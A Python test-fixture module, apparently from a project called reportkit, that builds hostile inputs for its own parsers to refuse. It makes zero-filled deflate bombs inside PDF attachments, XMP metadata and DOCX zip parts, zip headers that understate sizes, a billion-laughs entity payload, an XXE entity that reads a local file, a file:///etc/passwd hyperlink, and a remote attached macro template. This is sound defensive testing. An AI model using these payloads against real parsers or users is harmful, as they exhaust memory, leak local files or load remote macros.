"""Builders of hostile inputs: PDFs whose attachment or metadata inflates to gigabytes, Word
templates with oversized parts, DTD tricks and external relationships, and certificates outside
their validity period.

Each builder writes one small file (about a megabyte at most) where it is told and returns its
path, in milliseconds: a bomb's gigabyte is never held or written, only described. The tests use
them, and a benchmark can import them to time the refusals.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
import zlib
from pathlib import Path

GIB = 1 << 30
MIB = 1 << 20

RECORD_MIME = "application/json"


# --- Deflate streams of zeros ----------------------------------------------------------------


def deflated_zeros(size: int, *, zlib_wrapper: bool = True) -> bytes:
    """A valid deflate stream (zlib-wrapped by default, as PDF's FlateDecode wants) of `size`
    zero bytes, built without ever holding them: after a full flush the compressor starts afresh,
    so every MiB of zeros compresses to the same bytes, which are repeated."""
    assert size % MIB == 0, "whole MiBs"
    chunks = size // MIB
    zeros = bytes(MIB)
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = first.compress(zeros) + first.flush(zlib.Z_FULL_FLUSH)
    body = first.compress(zeros) + first.flush(zlib.Z_FULL_FLUSH)
    again = first.compress(zeros) + first.flush(zlib.Z_FULL_FLUSH)
    assert body == again, "the block of a MiB of zeros repeats"
    tail = first.flush(zlib.Z_FINISH)  # the last, empty block
    raw = head + body * (chunks - 1) + tail
    if not zlib_wrapper:
        return raw
    # Adler-32 of n zero bytes: a stays 1, b adds 1 per byte.
    adler = ((size % 65521) << 16) | 1
    return b"\x78\xda" + raw + adler.to_bytes(4, "big")


# --- PDFs ------------------------------------------------------------------------------------


def _blank_pdf():
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _attach(pdf, name: str = "record.json"):
    """A record-like attachment (/AF, /Source, application/json) whose data the caller sets."""
    import pikepdf

    spec = pikepdf.AttachedFileSpec(
        pdf, b"{}", filename=name, mime_type=RECORD_MIME, relationship=pikepdf.Name.Source
    )
    pdf.attachments[name] = spec
    pdf.Root.AF = pikepdf.Array([spec.obj])
    return spec.obj.EF.F


def _save(pdf, path: Path) -> Path:
    import pikepdf

    # Streams are written as they are: qpdf must not try to decode (or recompress) the bomb.
    pdf.save(
        path,
        compress_streams=False,
        stream_decode_level=pikepdf.StreamDecodeLevel.none,
        fix_metadata_version=False,  # would read the metadata, bomb or not
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )
    return path


def pdf_with_inflating_record(path: Path, inflated: int = GIB) -> Path:
    """A PDF whose attached record.json is a FlateDecode stream of `inflated` zero bytes."""
    import pikepdf

    pdf = _blank_pdf()
    _attach(pdf).write(deflated_zeros(inflated), filter=pikepdf.Name.FlateDecode)
    return _save(pdf, path)


def pdf_with_filtered_record(path: Path, filters: list[str], data: bytes) -> Path:
    """A PDF whose attached record.json holds `data` (already encoded) under `filters`."""
    import pikepdf

    pdf = _blank_pdf()
    names = [pikepdf.Name(f) for f in filters]
    _attach(pdf).write(data, filter=names if len(names) > 1 else names[0])
    return _save(pdf, path)


def pdf_with_predictor_record(path: Path) -> Path:
    """A record stream under FlateDecode with a PNG predictor (nothing reportkit writes)."""
    import pikepdf

    pdf = _blank_pdf()
    stream = _attach(pdf)
    stream.write(
        zlib.compress(b"\x00{}"),
        filter=pikepdf.Name.FlateDecode,
        decode_parms=pikepdf.Dictionary(Predictor=12, Columns=2),
    )
    return _save(pdf, path)


def pdf_with_inflating_metadata(path: Path, record: bytes, inflated: int = GIB) -> Path:
    """A PDF with a genuine small record attached and an XMP /Metadata stream that inflates to
    `inflated` zero bytes."""
    import pikepdf

    pdf = _blank_pdf()
    _attach(pdf).write(record)
    meta = pikepdf.Stream(pdf, b"")
    meta.write(deflated_zeros(inflated), filter=pikepdf.Name.FlateDecode)
    # No /Type /Metadata: qpdf writes streams so marked uncompressed, which would inflate the bomb
    # on saving; the catalog's /Metadata entry is what readers follow.
    meta.Subtype = pikepdf.Name.XML
    pdf.Root.Metadata = pdf.make_indirect(meta)
    return _save(pdf, path)


def pdf_with_many_attachments(path: Path, count: int = 200_000) -> Path:
    """A PDF whose catalog /AF array lists `count` entries (one small dictionary, repeated), none
    of them a record: a few hundred kilobytes that would cost seconds to walk entry by entry."""
    import pikepdf

    pdf = _blank_pdf()
    decoy = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("decoy.txt"))
    )
    pdf.Root.AF = pdf.make_indirect(pikepdf.Array([decoy] * count))
    return _save(pdf, path)


# --- Word templates --------------------------------------------------------------------------


def _reference_docx() -> bytes:
    from reportkit.resources import templates_dir

    return (templates_dir() / "reference.docx").read_bytes()


def rewrite_docx(
    path: Path,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
) -> Path:
    """reportkit's own reference.docx with some parts replaced or added, written to `path`."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_reference_docx())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            dst.writestr(item.filename, replace.get(item.filename, src.read(item.filename)))
        for name, data in add.items():
            dst.writestr(name, data)
    path.write_bytes(out.getvalue())
    return path


def docx_with_inflating_part(
    path: Path, part: str = "word/media/huge.bin", inflated: int = GIB
) -> Path:
    """A template with one extra part whose deflated data inflates to `inflated` zero bytes, and
    whose zip entry honestly declares that size (a lying one is `docx_with_lying_sizes`)."""
    return _docx_with_deflated(path, part, deflated_zeros(inflated, zlib_wrapper=False), inflated)


def docx_with_lying_sizes(
    path: Path, part: str = "word/media/huge.bin", inflated: int = GIB
) -> Path:
    """As `docx_with_inflating_part`, but the zip entry declares 1 KiB (with the CRC of the
    whole): sizes in a zip are claims, not facts."""
    rewrite_docx(path)
    _append_deflated(
        path, part, deflated_zeros(inflated, zlib_wrapper=False), 1024, crc=_crc_of_zeros(inflated)
    )
    return path


def docx_with_many_parts(path: Path, count: int = 8, each: int = 60 * MIB) -> Path:
    """A template with `count` extra parts of `each` inflated bytes: every one under a per-part
    limit, together over a total one."""
    path = rewrite_docx(path)
    data = deflated_zeros(each, zlib_wrapper=False)
    for i in range(count):
        _append_deflated(path, f"word/media/filler{i}.bin", data, each)
    return path


def _docx_with_deflated(path: Path, part: str, data: bytes, declared: int) -> Path:
    rewrite_docx(path)
    _append_deflated(path, part, data, declared)
    return path


def _append_deflated(
    path: Path, part: str, data: bytes, declared: int, crc: int | None = None
) -> None:
    """Append an entry whose deflated bytes are given (zipfile can only compress what it holds):
    written STORED, then its local and central headers are patched to say DEFLATED with the
    declared size and `crc` (by default, that of `declared` zero bytes)."""
    crc = _crc_of_zeros(declared) if crc is None else crc
    with zipfile.ZipFile(path, "a") as z:
        info = zipfile.ZipInfo(part, date_time=(2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_STORED
        z.writestr(info, data)
    blob = bytearray(path.read_bytes())
    name = part.encode()
    # local header: signature, version, flags, method(8), time, date, crc(14), csize, usize(22)
    local = _find_header(blob, b"PK\x03\x04", 30, 26, name)
    central = _find_header(blob, b"PK\x01\x02", 46, 28, name)
    for at, method, crc_at, usize_at in ((local, 8, 14, 22), (central, 10, 16, 24)):
        blob[at + method : at + method + 2] = (8).to_bytes(2, "little")
        blob[at + crc_at : at + crc_at + 4] = crc.to_bytes(4, "little")
        blob[at + usize_at : at + usize_at + 4] = min(declared, 0xFFFFFFFF).to_bytes(4, "little")
    path.write_bytes(bytes(blob))


def _find_header(
    blob: bytearray, signature: bytes, fixed: int, name_len_at: int, name: bytes
) -> int:
    at = 0
    while True:
        at = blob.find(signature, at)
        assert at >= 0, f"no {signature!r} header for {name!r}"
        length = int.from_bytes(blob[at + name_len_at : at + name_len_at + 2], "little")
        if blob[at + fixed : at + fixed + length] == name:
            return at
        at += 4


def _crc_of_zeros(size: int) -> int:
    crc, block = 0, bytes(MIB)
    whole, rest = divmod(size, MIB)
    for _ in range(min(whole, 64)):  # enough for the tests' limits; beyond, the CRC is moot
        crc = zlib.crc32(block, crc)
    return zlib.crc32(bytes(rest), crc)


BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE a:theme [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="&lol9;"/>
"""


def external_entity(target: Path) -> bytes:
    """A theme that names a local file as an external entity: resolved, its text would end up in
    the output."""
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        b'<!DOCTYPE a:theme [<!ENTITY secret SYSTEM "' + target.as_uri().encode() + b'">]>\n'
        b'<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        b'name="&secret;"><a:themeElements/></a:theme>\n'
    )


UNDEFINED_ENTITY = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="&nope;"/>\n'
)


# --- Certificates ----------------------------------------------------------------------------


def self_signed_p12(
    path: Path,
    *,
    not_before: dt.datetime,
    not_after: dt.datetime,
    password: bytes = b"s3cret",
    common_name: str = "reportkit test signer",
) -> Path:
    """A throwaway self-signed signing certificate and its key, as PKCS#12, valid exactly from
    `not_before` to `not_after`."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import pkcs12
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())  # fast to make, unlike RSA
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(not_before)
        .not_valid_after(not_after)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    path.write_bytes(
        pkcs12.serialize_key_and_certificates(
            b"signer", key, cert, None, serialization.BestAvailableEncryption(password)
        )
    )
    return path


HARMLESS_DTD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE a:theme [<!ENTITY office "Ministry">]>\n'
    b'<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="t">'
    b"<a:themeElements>&office;</a:themeElements></a:theme>\n"
)

REMOTE_TEMPLATE = "https://templates.invalid/letterhead.dotm"
REMOTE_IMAGE = "https://images.invalid/seal.png"
LOCAL_LINK = "file:///etc/passwd"
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)


def letterhead_with_external_links(path: Path, logo_png: bytes) -> Path:
    """A letterhead whose header has text, an embedded logo, a hyperlink to a local file and a
    picture linked (not embedded) from a remote address, and whose settings attach a remote
    macro template: Word would follow each of those links when the report is opened."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls, qn
    from docx.shared import Inches

    d = docx.Document()
    header = d.sections[0].header
    p = header.paragraphs[0]
    p.text = "LETTERHEAD "
    p.add_run().add_picture(io.BytesIO(logo_png), width=Inches(0.6))
    # a second picture, then made to link its image from outside instead of embedding it
    linked = p.add_run()
    linked.add_picture(io.BytesIO(logo_png), width=Inches(0.4))
    blip = linked._r.find(".//" + qn("a:blip"))
    blip.attrib.pop(qn("r:embed"))
    blip.set(qn("r:link"), header.part.relate_to(REMOTE_IMAGE, RT.IMAGE, is_external=True))
    rid = header.part.relate_to(LOCAL_LINK, RT.HYPERLINK, is_external=True)
    p._p.append(
        parse_xml(
            f'<w:hyperlink {nsdecls("w", "r")} r:id="{rid}"><w:r><w:t>OFFICE SITE</w:t></w:r>'
            f"</w:hyperlink>"
        )
    )
    settings_part = d.part._settings_part
    rid = settings_part.relate_to(REMOTE_TEMPLATE, ATTACHED_TEMPLATE, is_external=True)
    settings_part.element.insert(
        0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rid}"/>')
    )
    d.add_paragraph("Placeholder body text of the letterhead")
    d.save(str(path))
    return path
